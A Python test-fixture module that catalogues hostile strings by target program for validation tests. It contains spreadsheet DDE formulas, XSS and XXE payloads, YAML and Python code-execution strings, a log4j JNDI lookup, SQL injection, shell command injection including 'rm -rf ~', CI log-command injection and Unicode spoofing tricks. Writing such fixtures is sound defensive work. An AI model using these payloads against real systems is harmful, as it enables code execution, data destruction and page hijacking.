"""Texts with a special meaning for some program: a spreadsheet, a calendar, a browser, a terminal, a log, a shell.

All tests use this table. A name says which program a text is meant to deceive. The names are valid ids, so that a record
can have one as its id.
"""

from typing import Final

from diplovisit.record import validation
from diplovisit.record.constraints import LINE, SENTENCE
from diplovisit.testing import HOSTILE_TEXTS

SPREADSHEETS: Final = {
    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "formula-dde": "=cmd|'/C calc'!A0",
    "formula-plus": "+1+cmd|'/C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "formula-behind-blanks": "   =1+1",
    "formula-behind-a-hard-blank": "\u00a0=1+1",
    "formula-behind-an-ideographic-blank": "\u3000=1+1",
    "formula-behind-a-mark": "\ufeff=1+1",
    "formula-behind-zero-width": "\u200b=1+1",
    "formula-wide": "＝1+1",
    "formula-wide-plus": "＋1",
    "formula-wide-minus": "－1",
    "formula-wide-at": "＠SUM(A1)",
    "formula-after-a-tab": "\t=1+1",
    "formula-after-a-return": "\r=1+1",
    "formula-in-quotes": '"=1+1"',
    "formula-behind-an-apostrophe": "'=1+1",
    "formula-in-a-second-cell": 'x",=1+1,"',
    "formula-in-a-second-row": "x\n=1+1",
    "separator-of-excel": "sep=;",
    "apostrophe": "'tis",
}
CALENDARS: Final = {
    "calendar-ends": "x\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "calendar-ends-by-line-feeds": "x\nEND:VEVENT\nEND:VCALENDAR",
    "calendar-ends-in-an-escape": "x\\nEND:VEVENT\\nATTENDEE:mailto:a@example.org",
    "calendar-folded": "x\r\n ATTENDEE:mailto:a@example.org",
    "calendar-parameter": ";X=1:y",
    "calendar-quote": '";X-EVIL="1":y',
    "calendar-carets": "^n^'^^",
    "calendar-separators": "a,b;c:d\\,e\\;f",
    "calendar-backslash": "C:\\New",
    "calendar-backslash-at-the-end": "x\\",
    "line-separator": "x\u2028END:VEVENT",
    "paragraph-separator": "x\u2029END:VEVENT",
    "next-line": "x\u0085END:VEVENT",
    "vertical-tab": "x\x0b\x0c\x1c\x1d\x1eEND:VEVENT",
}
PAGES: Final = {
    "script": "<script>alert(1)</script>",
    "script-ends": "</script></style></title><script>alert(1)</script>",
    "script-in-an-attribute": "\"'><img src=x onerror=alert(1)>",
    "script-behind-an-attribute": '" autofocus onfocus=alert(1) x="',
    "script-in-svg": "</text><svg/onload=alert(1)><desc>",
    "script-address": "javascript:alert(1)",
    "script-address-in-data": "data:text/html,<script>alert(1)</script>",
    "page-comment": "<!-- x --> <!--",
    "page-comment-ends": "--> --!> x",
    "page-section": "<![CDATA[x]]> ]]>",
    "page-instruction": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "page-entities": "&lt;b&gt; &#60; &amp; &nosuch; &#0;",
    "page-moves": '<meta http-equiv="refresh" content="0;url=http://example.org/">',
}
TERMINALS: Final = {
    "terminal-colour": "\x1b[31mred\x1b[0m",
    "terminal-clears": "\x1b[2J\x1b[H",
    "terminal-title": "\x1b]0;title\x07",
    "terminal-link": "\x1b]8;;http://example.org/\x1b\\here\x1b]8;;\x1b\\",
    "terminal-clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "terminal-c1": "\x9b31mred",
    "terminal-c1-command": "\x9d0;title\x9c",
    "terminal-overwrites": "error: x\rall well",
    "terminal-deletes": "x\b\b\x7f",
    "terminal-bell": "\a",
    "nul": "a\0b",
}
LOGS: Final = {
    "workflow-error": "::error::x",
    "workflow-error-behind-blanks": "  ::error::x",
    "workflow-error-behind-what-nobody-sees": "\u034f\u3164::error::x",
    "workflow-error-on-a-second-line": "x\n::add-mask::a",
    "workflow-error-after-a-return": "x\r\n::add-mask::a",
    "workflow-order": "##[error]x",
    "workflow-order-within": "x ##[add-mask]secret ###[group]",
    "workflow-order-of-azure": "##vso[task.setvariable variable=x]y",
    "workflow-order-of-teamcity": "##teamcity[buildStop]",
    "workflow-escapes": "a%0A::error::b%0D%25",
    "workflow-output": "x\nresult<<EOF\nEOF",
    "gitlab-section": "section_start:1:x[collapsed=true]\r\x1b[0K",
}
MARKDOWN: Final = {
    "markdown-code": "`x` ``y`` ```",
    "markdown-fence": "```\nx\n```",
    "markdown-link": "[x](javascript:alert(1)) [y]: http://example.org",
    "markdown-image": "![x](http://example.org/x.png)",
    "markdown-table": "a|b\n-|-\n1|2",
    "markdown-heading": "# x",
    "markdown-heading-below": "x\n===",
    "markdown-list": "1. x",
    "markdown-quote": "> x",
    "markdown-rule": "***",
    "markdown-code-by-blanks": "      x",
    "markdown-mentions": "@maintainer #1 GH-1 example/example#1",
    "markdown-commit": "0123456789abcdef0123456789abcdef01234567",
    "markdown-addresses": "https://example.org www.example.org a@example.org",
    "markdown-marks": "**x** __y__ ~~z~~ ==x== $x$ <b>z</b>",
    "markdown-footnote": "[^1] [ ] - [x]",
}
UNICODE: Final = {
    "no-character": "a\ufffeb\uffffc\ufdd0",
    "no-character-beyond": "a\U0001fffeb\U0010ffff",
    "half-a-pair": "a\ud800b",
    "other-half-of-a-pair": "a\udfffb",
    "pair-in-halves": "\ud83d\ude00",
    "private": "\ue000\U000f0000",
    "override": "\u202egnp.exe\u202c",
    "isolate": "\u2067x\u2069 \u2066y",
    "direction-marks": "\u200ex\u200fy\u061c",
    "homoglyphs": "Мoscоw раypаl",
    "zero-width": "Mos\u200bco\u200cw\u2060\ufeff",
    "nothing-to-see": "\u200b\u2063",
    "fillers": "\u115f\u1160\u3164\uffa0\u2800",
    "soft-hyphens": "Mos\u00adcow",
    "tags": "x\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
    "selectors": "x\U000e0100\U000e01ef\ufe00",
    "marks": "é" + "\u0301\u0323" * 490,
    "marks-on-nothing": "\u0301" * 900,
    "long-word": "w" * 10_000,
    "long-line": "ab " * 3_000 + "c",
    "emoji": "👩🏽‍❤️‍💋‍👨🏿 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇪🇪 #️⃣",
    "scripts": "Çankırı Владимир 東京 दिल्ली القاهرة ירושלים ไทย",
    "composed-otherwise": "e\u0301 Å ﬁ ① ﷺ",
    "letters-that-grow": "ßİŉΐ",
    "replacement": "\ufffd",
}
PROGRAMS: Final = {
    "norway": "NO",
    "null": "null",
    "not-a-number": "NaN",
    "number": "1e5",
    "number-of-zeros": "007",
    "sexagesimal": "12:30:45",
    "date": "2025-03-07",
    "yaml-tag": "!!python/object/apply:os.system [x]",
    "yaml-anchor": "&a *a",
    "yaml-mapping": "a: b # c",
    "yaml-document": "--- x",
    "json": '{"a": [1, "]}"',
    "prototype": "__proto__",
    "python": "__import__('os').system('x')",
    "python-format": "{0.__class__.__mro__} {} {x!r:>999999999}",
    "percent-format": "%s %n %(x)s %999999999d",
    "log4j": "${jndi:ldap://example.org/x}",
    "template": "{{ 7*7 }} <%= 7*7 %> #{7*7} ${7*7}",
    "shell": "$(touch x); `touch x` | touch x && rm -rf ~",
    "option": "--no-such-option=x",
    "sql": "'; DROP TABLE visits; --",
    "path": "../../no-such-folder/x",
    "windows-path": "\\\\example.org\\share\\x",
    "device": "CON",
    "mathtext": "$\\frac{1}{0}$ $x^{y}",
    "regular-expression": "(a+)+$ \\d [",
    "blanks-at-the-edges": "  x  ",
}

PAYLOADS: Final = {
    **SPREADSHEETS,
    **CALENDARS,
    **PAGES,
    **TERMINALS,
    **LOGS,
    **MARKDOWN,
    **UNICODE,
    **PROGRAMS,
    **{f"hostile-{number}": text for number, text in enumerate(HOSTILE_TEXTS, 1)},
}
"""Every payload by its name."""

ALLOWED: Final = {name: text for name, text in PAYLOADS.items() if validation.validate_text(SENTENCE, text) is None}
"""Payloads that a record may have: as a sentence, or shortened and without line breaks as a line."""

REFUSED: Final = {name: text for name, text in PAYLOADS.items() if name not in ALLOWED}
"""Payloads that no record may have: control characters, halves of surrogate pairs."""

URLS: Final = (
    "https://example.org/?q='onmouseover='alert(1)",
    "https://example.org/%0D%0AEND:VEVENT",
    "https://example.org/;X=1:y,z;ATTENDEE=mailto:a@example.org",
    "https://example.org/)](javascript:alert(1))*_~",
    "https://example.org/\u2028END:VEVENT\u202egnp",
    "https://example.org/::error::x##[error]y",
    "https://例え.テスト/東京?a=%20&b=$x#$jndi:ldap://example.org",
    "https://example.org?@example.com/",
    "https://example.org/\ufffe\ufeff\u200b",
    "https://example.org/=1+1",
)
"""Web addresses that the rules allow and that have a special meaning for some program."""


def in_a_line(text: str) -> str:
    """Returns a payload in the form that a field of one line accepts."""
    return " ".join(text.split("\n"))[: LINE.longest]
